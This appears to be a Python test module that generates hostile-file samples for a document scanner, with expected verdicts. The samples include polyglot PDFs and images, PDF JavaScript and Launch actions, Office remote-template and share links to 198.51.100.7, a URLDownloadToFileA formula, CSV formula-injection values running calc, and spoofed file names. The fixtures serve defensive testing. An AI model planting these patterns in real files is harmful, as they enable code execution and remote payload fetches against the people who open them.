"""What looks honest at a first glance: two formats in one file, a danger one layer further in, an old trick renamed."""

import io
import re

import pikepdf

from tests.documents.corpus.office_files import SHEET, matryoshka, relations, zipped
from tests.documents.corpus.others import PLAIN, attached, mail
from tests.documents.corpus.pdfs import annotated, embedded, one_page
from tests.documents.corpus.verdicts import CAREFUL, EICAR, NO, OLE, YES
from tests.documents.hostile import office
from tests.documents.samples import pdf, photo

MACROS = [("word/vbaProject.bin", OLE + b"\0" * 90)]
SCRIPT = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"


def as_disc(data):
    """The bytes of a PDF, and at its place what makes a CD of it: its first 32 KB may hold anything."""
    return data.ljust(0x8000, b"\n") + b"\x01CD001\x01".ljust(2048, b"\0") + b"\xffCD001\x01" + b"\0" * 2048


def with_words(data, words):
    """A JPEG that carries them in a comment at its beginning."""
    return data[:2] + b"\xff\xfe" + (len(words) + 2).to_bytes(2, "big") + words + data[2:]


def letter_in_letter(*parts):
    inner = mail(PLAIN, *parts).decode()
    return mail(PLAIN, f"Content-Type: message/rfc822\r\n\r\n{inner}")


def scripted_and_locked():
    with pikepdf.open(io.BytesIO(one_page(b"", SCRIPT))) as made:
        out = io.BytesIO()
        made.save(out, encryption=pikepdf.Encryption(owner="o", user="", R=6))
        return out.getvalue()


def updated():
    """A clean PDF, and behind it a second edition of its first page that acts."""
    first = pdf()
    at = len(first)
    number = int(first.rsplit(b"startxref", 1)[1].split()[0])
    size = first.rsplit(b"/Root", 1)[1].split()[0]
    root = int(size)
    pages = re.search(rb"/Pages (\d+) 0 R", first)
    pages = pages[1].decode() if pages else "2"
    body = f"{root} 0 obj\n<</Type/Catalog/Pages {pages} 0 R/OpenAction<</S/JavaScript/JS(1)>>>>\nendobj\n".encode()
    table = at + len(body)
    return (
        first
        + body
        + f"xref\n{root} 1\n{at:010d} 00000 n \ntrailer<</Size 99/Root {root} 0 R/Prev {number}>>\n"
        f"startxref\n{table}\n%%EOF\n".encode()
    )


HIDDEN = [
    ("zip-then-end.pdf", lambda: pdf() + zipped(("run.js", b"alert(1)")) + b"\n%%EOF\n", CAREFUL),
    ("zip-then-blanks.pdf", lambda: pdf() + zipped(("run.js", b"alert(1)")) + b"\n" * 300, CAREFUL),
    (
        "jar-then-end.pdf",
        lambda: pdf() + zipped(("META-INF/MANIFEST.MF", b"a"), ("A.class", b"\xca")) + b"%%EOF",
        CAREFUL,
    ),
    ("disc.pdf", lambda: as_disc(pdf()), CAREFUL),
    ("disc.jpg", lambda: as_disc(photo((90, 90))), CAREFUL),
    ("disc.png", lambda: as_disc(photo((90, 90), kind="PNG")), CAREFUL),
    ("shell-before.pdf", lambda: b"#!/bin/sh\necho\n" + pdf(), CAREFUL),
    ("batch-before.pdf", lambda: b"@echo off\r\nrem " + pdf(), CAREFUL),
    ("script-before.pdf", lambda: b"/*\n" + pdf() + b"*/alert(1)", CAREFUL),
    ("php-before.pdf", lambda: b"<?php system(1); ?>\n" + pdf(), CAREFUL),
    ("photo-before.pdf", lambda: photo((40, 40))[:600] + b"\n" + pdf(), CAREFUL),
    ("zip-before.pdf", lambda: zipped(("a", b"b")) + pdf(), CAREFUL),
    ("pdf-in-comment.jpg", lambda: with_words(photo((90, 90)), pdf()[:600]), CAREFUL | YES),
    ("page-after.tif", lambda: photo((90, 90), kind="TIFF") + b"<html><script>alert(1)</script></html>", CAREFUL),
    ("page-after.webp", lambda: photo((90, 90), kind="WEBP") + b"<html><script>alert(1)</script></html>", CAREFUL),
    ("zip-after.tif", lambda: photo((90, 90), kind="TIFF") + zipped(("a", b"b")), CAREFUL),
    (
        "zip-then-blanks.png",
        lambda: photo((90, 90), kind="PNG") + b"\0" * 50 + zipped(("a", b"b")) + b"\0" * 90,
        CAREFUL,
    ),
    ("rar-after.jpg", lambda: photo((90, 90)) + b"Rar!\x1a\x07\x01\0" + b"\0" * 90, CAREFUL),
    ("late-zip.jpg", lambda: photo((90, 90)) + b"\0" * 9000 + zipped(("a", b"b")) + b"\0" * 9, CAREFUL),
    ("trail.docx", lambda: office() + b"\n" * 400, CAREFUL | YES),
    ("script-in-locked.pdf", lambda: scripted_and_locked(), CAREFUL),
    (
        "rendition-js.pdf",
        lambda: annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/Rendition/JS(app.alert\\(1\\))>>>>"),
        CAREFUL,
    ),
    (
        "next-js.pdf",
        lambda: annotated(
            "<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://provider.example)/Next[<</S/JavaScript/JS(1)>>]>>>>"
        ),
        CAREFUL,
    ),
    (
        "outline-launch.pdf",
        lambda: one_page(
            b"", "/Outlines<</First 5 0 R/Last 5 0 R/Count 1>>", "", "<</Title(a)/A<</S/Launch/F(calc.exe)>>>>"
        ),
        CAREFUL,
    ),
    ("will-close.pdf", lambda: one_page(b"", "/AA<</WC<</S/JavaScript/JS(1)>>>>"), CAREFUL),
    (
        "xfa-array.pdf",
        lambda: one_page(b"", "/AcroForm<</Fields[]/XFA[(preamble)(<xdp/>)(template)(<template/>)]>>"),
        CAREFUL,
    ),
    ("uri-ms.pdf", lambda: annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(ms-msdt:/id)>>>>"), CAREFUL),
    (
        "uri-search.pdf",
        lambda: annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(search-ms:query=a)>>>>"),
        CAREFUL,
    ),
    (
        "uri-hex.pdf",
        lambda: annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI<6A6176617363726970743A616C657274>>>>>"),
        CAREFUL,
    ),
    ("uri-data.pdf", lambda: annotated("<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(data:text/html,a)>>>>"), CAREFUL),
    (
        "associated.pdf",
        lambda: one_page(
            b"", "/AF[5 0 R]", "", "<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", "<</Length 2>>\nstream\nMZ\nendstream"
        ),
        CAREFUL,
    ),
    ("eicar-inside.pdf", lambda: embedded(b"eicar.com", EICAR), CAREFUL),
    ("script-later.pdf", lambda: updated(), CAREFUL),
    (
        "page-target.docx",
        lambda: office(more=[("word/_rels/settings.xml.rels", relations("http://198.51.100.7/t.dotm", mode=""))]),
        CAREFUL,
    ),
    (
        "frameset.docx",
        lambda: office(more=[("word/_rels/webSettings.xml.rels", relations("http://198.51.100.7/f", kind="frame"))]),
        CAREFUL,
    ),
    (
        "share.docx",
        lambda: office(more=[("word/_rels/settings.xml.rels", relations("file://198.51.100.7/s/t.dotx"))]),
        CAREFUL,
    ),
    (
        "share-slashes.docx",
        lambda: office(more=[("word/_rels/settings.xml.rels", relations("//198.51.100.7/s/t.dotx"))]),
        CAREFUL,
    ),
    (
        "merge.docx",
        lambda: office(
            more=[("word/_rels/settings.xml.rels", relations("\\\\198.51.100.7\\s\\a.mdb", kind="mailMergeSource"))]
        ),
        CAREFUL,
    ),
    (
        "header.docx",
        lambda: office(more=[("word/_rels/header1.xml.rels", relations("http://198.51.100.7/a.png", kind="image"))]),
        CAREFUL,
    ),
    (
        "addin.docx",
        lambda: office(
            more=[
                (
                    "word/webextensions/webextension1.xml",
                    '<we:webextension xmlns:we="w"><we:reference store="\\\\198.51.100.7\\s" storeType="Filesystem"/></we:webextension>',
                )
            ]
        ),
        CAREFUL,
    ),
    ("ribbon.docx", lambda: office(more=[("customUI/customUI14.xml", '<customUI onLoad="Run"/>')]), CAREFUL | YES),
    ("macros-inside.docx", lambda: office(more=[("word/embeddings/inner.docx", office(more=MACROS))]), CAREFUL),
    ("letter-with-macros.docx", lambda: office(more=[("word/embeddings/inner.docm", office(more=MACROS))]), CAREFUL),
    ("iso-inside.docx", lambda: office(more=[("word/embeddings/a.iso", b"\0" * 900)]), CAREFUL),
    (
        "lnk-inside.docx",
        lambda: office(more=[("word/embeddings/oleObject2.bin", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90)]),
        CAREFUL,
    ),
    ("eicar-inside.docx", lambda: office(more=[("word/media/image9.png", EICAR)]), NO),
    ("macro-upper.docx", lambda: office(more=[("word/VBAPROJECT.BIN", OLE)]), NO),
    ("macros-4.xlsx", lambda: office(SHEET, more=[("xl/macrosheets/sheet1.xml", "<a/>")]), NO),
    (
        "other-book.xlsx",
        lambda: office(
            SHEET,
            more=[
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    relations("http://198.51.100.7/b.xlsx", kind="externalLinkPath"),
                )
            ],
        ),
        CAREFUL,
    ),
    (
        "call.xlsx",
        lambda: office(
            SHEET, more=[("xl/worksheets/sheet1.xml", '<c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ")</f></c>')]
        ),
        CAREFUL,
    ),
    (
        "exec-name.xlsx",
        lambda: office(
            SHEET, more=[("xl/workbook2.xml", '<definedName name="_xlnm.Auto_Open">EXEC("calc")</definedName>')]
        ),
        CAREFUL,
    ),
    (
        "query.xlsx",
        lambda: office(
            SHEET,
            more=[
                ("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>')
            ],
        ),
        CAREFUL,
    ),
    ("sylk.csv", lambda: b'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;EEXEC("CALC")\nE\n', CAREFUL),
    ("quoted.csv", lambda: b"date,amount\n2026-01-01,\"=cmd|'/c calc'!A1\"\n", CAREFUL),
    ("minus.csv", lambda: b"date,amount\n2026-01-01,-2+3+cmd|' /C calc'!A0\n", CAREFUL),
    ("wide-sign.csv", lambda: "date,amount\n2026-01-01,＝cmd|' /C calc'!A0\n".encode(), CAREFUL),
    ("tabbed.csv", lambda: b"date;amount\n2026-01-01;\t=1+cmd|' /C calc'!A0\n", CAREFUL),
    ("shortcut.txt", lambda: b"[InternetShortcut]\r\nURL=file://198.51.100.7/s/a.exe\r\n", CAREFUL | YES),
    ("ole.txt", lambda: OLE + b"\0" * 900, NO),
    ("ole.csv", lambda: OLE + b"\0" * 900, NO),
    ("web.txt", lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><script>1</script>", CAREFUL | YES),
    ("page-late-comment.csv", lambda: b"\n\n <!-- x --> <svg onload=alert(1)>", NO),
    ("old-word.eml", lambda: mail(PLAIN, attached("a.doc", OLE + b"\0" * 900)), CAREFUL),
    ("macros-renamed.eml", lambda: mail(PLAIN, attached("a.docx", office(more=MACROS))), CAREFUL),
    ("script.pdf.eml", lambda: mail(PLAIN, attached("notice.pdf", one_page(b"", SCRIPT), "application/pdf")), CAREFUL),
    ("disc.eml", lambda: mail(PLAIN, attached("a.iso", b"\0" * 900)), CAREFUL),
    ("disc-image.eml", lambda: mail(PLAIN, attached("a.img", b"\0" * 900)), CAREFUL),
    ("link.eml", lambda: mail(PLAIN, attached("notice.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90)), CAREFUL),
    ("link-renamed.eml", lambda: mail(PLAIN, attached("notice.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90)), CAREFUL),
    ("note.eml", lambda: mail(PLAIN, attached("a.one", b"\xe4\x52\x5c\x7b" + b"\0" * 90)), CAREFUL),
    ("disk.eml", lambda: mail(PLAIN, attached("a.vhdx", b"vhdxfile" + b"\0" * 90)), CAREFUL),
    (
        "tnef.eml",
        lambda: mail(PLAIN, attached("winmail.dat", b"\x78\x9f\x3e\x22" + b"\0" * 90, "application/ms-tnef")),
        CAREFUL,
    ),
    ("svg.eml", lambda: mail(PLAIN, attached("a.svg", b"<svg onload='x'/>", "image/svg+xml")), CAREFUL),
    ("inner.eml", lambda: letter_in_letter(attached("tool.exe", b"MZ\x90\0" * 90)), CAREFUL),
    ("inner-eicar.eml", lambda: letter_in_letter(attached("a.txt", EICAR)), CAREFUL),
    (
        "inner-attached.eml",
        lambda: mail(
            PLAIN,
            attached("forward.eml", mail(PLAIN, attached("tool.exe", b"MZ\x90\0" * 90)), "application/octet-stream"),
        ),
        CAREFUL,
    ),
    ("locked-zip.eml", lambda: mail(PLAIN, attached("scan.zip", matryoshka(1))), CAREFUL),
    ("tool.exe .pdf", lambda: pdf(), CAREFUL),
    ("tool.exe            .pdf", lambda: pdf(), CAREFUL),
    ("tool.url.pdf", lambda: pdf(), CAREFUL),
    ("tool.pdf\u200b.exe", lambda: b"MZ", NO),
    ("tool\u2067fdp.pdf", lambda: pdf(), NO),
    ("folder/../../tool.exe", lambda: b"MZ", NO),
]
